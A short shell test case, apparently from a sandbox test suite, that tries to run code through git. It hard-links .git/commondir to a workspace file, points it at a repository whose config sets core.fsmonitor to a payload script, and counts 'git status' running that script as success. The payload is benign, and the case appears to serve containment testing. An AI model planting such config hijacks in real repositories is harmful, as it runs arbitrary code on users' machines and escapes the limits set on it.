# Write through another name of what looks like a placeholder, left by an earlier session
# group: git-files
# launch: refused
prepare() {
  git init -q "$W" && git init -q "$W/evil" && printf . > "$W/.git/commondir" && ln "$W/.git/commondir" "$W/notes"
}
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > payload; chmod +x payload
  printf '[core]\n\tfsmonitor = %s/payload\n' "$PWD" >> evil/.git/config || cp -r evil/.git own
  [ -d own ] && printf '[core]\n\tfsmonitor = %s/payload\n' "$PWD" >> own/config
  if [ -d own ]; then printf ../own > notes; else printf ../evil/.git > notes; fi
}
succeeded() { git -C "$W" status >/dev/null; test -e "$ROOM/ran"; }
